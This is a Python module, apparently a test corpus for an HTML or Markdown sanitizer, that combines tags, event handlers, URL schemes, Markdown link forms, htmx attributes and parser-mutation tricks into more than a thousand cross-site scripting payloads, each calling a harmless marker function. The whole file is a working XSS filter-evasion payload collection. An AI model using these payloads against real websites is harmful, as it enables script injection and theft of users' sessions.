"""Texts that try to run a script in a reader's browser, made by combining what is known to work somewhere.

Each calls `__ran(n)` if it succeeds. The families follow the usual collections (OWASP's filter-evasion cheat sheet, the mutations
that HTML parsers undo, Markdown's own ways to write a link, htmx's attributes); the texts are put together here.
"""

from collections.abc import Iterator
from itertools import product

TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "iframe src=about:blank",
    "input autofocus",
    "details open",
    "object data=x",
    "embed src=x",
    "marquee",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "a href=#",
    "math",
    "form",
    "style",
    "link rel=stylesheet href=x",
    "image src=x",
    "video><source src=x",
    "div contenteditable autofocus",
    "p tabindex=0 autofocus",
    "x-own",
)
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "onbeforematch",
    "ONERROR",
    "oNlOaD",
    "hx-on:load",
    "hx-on::before-request",
)
SHAPES = (
    "<{tag} {event}={run}>",
    "<{tag} {event}='{run}'>",
    "<{tag}/{event}={run}//",
)
SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript&#x3A;{run}",
    "javascript://example.org/%0A{run}",
    "data:text/html,<script>parent.{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW4oMSk8L3NjcmlwdD4=",
    "vbscript:{run}",
    "blob:{run}",
    "filesystem:javascript:{run}",
    "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "//javascript:{run}",
    'https://example.org/"onmouseover={run} x="',
    "https://example.org/'onmouseover={run} x='",
)
LINKS = (
    "[read]({url})",
    "[read](<{url}>)",
    '[read](https://example.org "{url}")',
    "[read][1]\n\n[1]: {url}",
    "![seen]({url})",
    "<{url}>",
    '<a href="{url}">read</a>',
    "<iframe src='{url}'></iframe>",
    '<form action="{url}"><button>go</button></form>',
    '<svg><a xlink:href="{url}"><text y=20>read</text></a></svg>',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<base href="{url}">',
    "{url}",
)
SCRIPTS = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script/x>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script>{run}",
    "<script\x00>{run}</script>",
    "\u202e<script>{run}</script>",
    "<script src=data:text/javascript,{run}></script>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} />",
    "<math><script>{run}</script></math>",
    "<template><script>{run}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<style><!--</style><script>{run}</script>-->",
    "<!--><script>{run}</script>-->",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
    "<![CDATA[><script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "--><script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "＜script＞{run}＜/script＞",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
)
MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror={run}></style></annotation-xml></math>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.{run}</script>"></foreignObject></svg>',
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={run}>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{run}'/></svg>#x\">",
    '<table><td background="javascript:{run}">',
    '<div style="width:expression({run})">',
    '<div style="background:url(javascript:{run})">',
    "<style>@import 'javascript:{run}';</style>",
    '<xmp><p title="</xmp><img src=x onerror={run}>">',
    "<noembed><img src=x onerror={run}></noembed>",
    "<plaintext><img src=x onerror={run}>",
    "<isindex type=image src=1 onerror={run}>",
    "<keygen autofocus onfocus={run}>",
    "<dialog open onclose={run}><form method=dialog><button>x",
    "<input type=image src=x onerror={run}>",
    "<img src=`x`onerror={run}>",
    "<img \x0csrc=x\x0conerror={run}>",
    "<img\nsrc=x\nonerror\n=\n{run}>",
    '<img src=x onerror="&#95;&#95;ran(0)">',
    '<a href="#" id=__ran><form id=__ran name=x>',
)
MARKDOWN = (
    "```\n</code></pre><script>{run}</script>\n```",
    "`</code><img src=x onerror={run}>`",
    "> <img src=x onerror={run}>",
    "- <img src=x onerror={run}>",
    "1. <svg onload={run}>",
    "**<img src=x onerror={run}>**",
    "*<script>{run}</script>*",
    "[<img src=x onerror={run}>](https://example.org)",
    "[x](https://example.org '\" onmouseover={run} ')",
    "[x](https://example.org/\u2028onmouseover={run})",
    "[a](javascript:{run}\n\n[b](https://example.org)",
    "[![x](https://example.org/x.png)](javascript:{run})",
    '<https://example.org/"><img src=x onerror={run}>>',
    "https://example.org/<img src=x onerror={run}>",
    'https://example.org/?a="><img/src=x/onerror={run}>',
    'www.example.org"onmouseover={run}',
    'a@example.org"onmouseover={run}',
    "\\<img src=x onerror={run}\\>",
    "&amp;lt;img src=x onerror={run}&amp;gt;",
    "<div hx-get=/ hx-trigger=load hx-on::load={run}>",
    "<div data-hx-on:load={run} data-hx-get=/ data-hx-trigger=load>",
    "<div hx-vals='js:{{x:{run}}}' hx-get=/ hx-trigger=load>",
    '<div hx-ext=x hx-vars="x:{run}" hx-get=/ hx-trigger=load>',
    "{{{{ {run} }}}}",
    "{{%% include '{run}' %%}}",
    "${{{run}}}",
    "# <svg/onload={run}>",
    "| <img src=x onerror={run}> | b |\n|---|---|",
    "<details open ontoggle={run}>\n\ntext\n\n</details>",
    "<p>\n\n<script>\n\n{run}\n\n</script>",
)
ENDINGS = ("", "\n\nand more", " <b>", '" x="')


def payloads() -> list[str]:
    """All of them, each once; the n-th runs `__ran(n)`. More than a thousand."""
    patterns = dict.fromkeys(_patterns())
    return [pattern.replace("§", f"__ran({number})") for number, pattern in enumerate(patterns)]


def _patterns() -> Iterator[str]:
    run = "§"
    for shape, tag, event in product(SHAPES, TAGS, EVENTS):
        yield shape.format(tag=tag, event=event, run=run)
    for link, scheme in product(LINKS, SCHEMES):
        yield link.format(url=scheme.format(run=run))
    for text, ending in product((*SCRIPTS, *MUTATIONS), ENDINGS):
        yield text.replace("{run}", run) + ending
    for text in MARKDOWN:
        yield text.format(run=run)
